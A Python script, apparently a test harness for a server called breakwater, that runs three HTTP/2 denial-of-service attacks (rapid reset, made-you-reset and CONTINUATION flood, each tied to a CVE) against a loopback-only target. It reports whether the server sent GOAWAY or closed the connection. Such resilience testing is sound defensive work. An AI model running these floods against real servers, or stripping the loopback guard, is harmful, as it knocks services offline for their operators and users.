#!/usr/bin/env python3
"""HTTP/2 attacks against breakwater, with the attackers' own library (python `h2`).

  h2attack.py rapid-reset  HOST PORT [--streams N] [--seconds S] [--pace-ms MS]
      CVE-2023-44487: open a stream (HEADERS with END_STREAM) and reset it at once
      (RST_STREAM CANCEL), in a loop, N times or until the server ends the connection;
      with --pace-ms, one stream every MS ms.
  h2attack.py made-you-reset HOST PORT [--streams N] [--seconds S]
      CVE-2025-8671 pattern: malformed requests (a connection-specific header) that the
      server must reset itself, N times or until the server ends the connection.
  h2attack.py continuation HOST PORT [--frames N] [--seconds S]
      CVE-2024-27316: one HEADERS frame without END_HEADERS, then CONTINUATION frames
      that never end the header block, N frames or until the server ends the connection.

Prints one JSON object: what was sent, whether a GOAWAY came (and its error code), whether
the server closed the connection, and how long it took. Only for 127.0.0.0/8: a refusal
to aim elsewhere is built in. Bounded in count and time; it stops by itself.
"""

import argparse
import ipaddress
import json
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame

GOAWAY = 0x7


class Peer:
    """The server's side of the socket, read by a thread of its own so that a GOAWAY is
    taken in before the close that follows it can reset the socket."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.goaway = None  # error code
        self.closed = False
        self.frames = 0
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self):
        while True:
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                break
            if not data:
                break
            self.buf += data
            self._frames()
        self.closed = True

    def pump(self, wait=0.0):
        """Kept for the callers' loops: gives the reader a moment."""
        if wait:
            self.reader.join(wait)

    def _frames(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind = self.buf[3]
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            self.frames += 1
            if kind == GOAWAY and len(payload) >= 8 and self.goaway is None:
                self.goaway = int.from_bytes(payload[4:8], "big")


def connect(host, port, validate=True):
    if not ipaddress.ip_address(socket.gethostbyname(host)).is_loopback:
        sys.exit("h2attack.py only aims at 127.0.0.0/8")
    sock = socket.create_connection((host, port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(
            client_side=True,
            header_encoding="utf-8",
            validate_outbound_headers=validate,
            normalize_outbound_headers=validate,
        )
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def send(sock, peer, data):
    try:
        sock.sendall(data)
        return True
    except (BrokenPipeError, ConnectionResetError, OSError):
        peer.closed = True
        return False


def headers(host, port):
    return [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", f"{host}:{port}"),
        (":path", "/rapid-reset"),
    ]


def rapid_reset(host, port, streams, seconds, pace_ms):
    sock, conn = connect(host, port)
    peer = Peer(sock)
    start = time.monotonic()
    sent = 0
    # Paced: one stream per write, `pace_ms` apart, so each is taken up before its reset
    # arrives (the reset limit does not see these; the concurrency limit does not either).
    batch = 1 if pace_ms > 0 else 50
    while sent < streams and time.monotonic() - start < seconds:
        if peer.closed or peer.goaway is not None:
            break
        if pace_ms > 0:
            time.sleep(pace_ms / 1000)
        try:
            for _ in range(batch):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers(host, port), end_stream=True)
                conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                sent += 1
        except h2.exceptions.H2Error:
            break
        if not send(sock, peer, conn.data_to_send()):
            break
        peer.pump()
    return finish(
        sock,
        peer,
        start,
        {"attack": "rapid-reset", "streams_sent": sent, "pace_ms": pace_ms},
    )


def made_you_reset(host, port, streams, seconds):
    """CVE-2025-8671 pattern: each stream is one the server itself must reset (a request
    with a connection-specific header, malformed in HTTP/2), so the resets are the
    server's own, not the client's."""
    sock, conn = connect(host, port, validate=False)
    peer = Peer(sock)
    start = time.monotonic()
    sent = 0
    bad = headers(host, port) + [("connection", "keep-alive")]
    while sent < streams and time.monotonic() - start < seconds:
        if peer.closed or peer.goaway is not None:
            break
        try:
            for _ in range(50):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, bad, end_stream=True)
                sent += 1
        except h2.exceptions.H2Error:
            break
        if not send(sock, peer, conn.data_to_send()):
            break
        peer.pump(0.01)
    return finish(sock, peer, start, {"attack": "made-you-reset", "streams_sent": sent})


def continuation(host, port, frames, seconds):
    sock, _conn = connect(host, port)
    peer = Peer(sock)
    encoder = hpack.Encoder()
    first = HeadersFrame(1)
    first.flags.add("END_STREAM")  # no END_HEADERS: the block stays open
    first.data = encoder.encode(headers(host, port))
    send(sock, peer, first.serialize())
    # Each frame carries more header fields; the block never ends.
    block = encoder.encode([("x-flood", "a" * 4000)] * 4)
    start = time.monotonic()
    sent = 0
    sent_bytes = 0
    while sent < frames and time.monotonic() - start < seconds:
        if peer.closed or peer.goaway is not None:
            break
        frame = ContinuationFrame(1)
        frame.data = block
        data = frame.serialize()
        if not send(sock, peer, data):
            break
        sent += 1
        sent_bytes += len(data)
        peer.pump()
    return finish(
        sock,
        peer,
        start,
        {"attack": "continuation", "frames_sent": sent, "bytes_sent": sent_bytes},
    )


def finish(sock, peer, start, report):
    # The server gets a few seconds to say GOAWAY and close.
    deadline = time.monotonic() + 5
    while not peer.closed and time.monotonic() < deadline:
        peer.pump(0.1)
    try:
        sock.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
    sock.close()
    report.update(
        {
            "goaway": peer.goaway is not None,
            "goaway_error_code": peer.goaway,
            "closed": peer.closed,
            "frames_received": peer.frames,
            "elapsed_s": round(time.monotonic() - start, 3),
        }
    )
    return report


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("attack", choices=["rapid-reset", "continuation", "made-you-reset"])
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--streams", type=int, default=10000)
    p.add_argument("--frames", type=int, default=10000)
    p.add_argument("--seconds", type=float, default=20.0)
    p.add_argument("--pace-ms", type=float, default=0.0)
    a = p.parse_args()
    if a.attack == "rapid-reset":
        report = rapid_reset(a.host, a.port, a.streams, a.seconds, a.pace_ms)
    elif a.attack == "made-you-reset":
        report = made_you_reset(a.host, a.port, a.streams, a.seconds)
    else:
        report = continuation(a.host, a.port, a.frames, a.seconds)
    print(json.dumps(report))


if __name__ == "__main__":
    main()
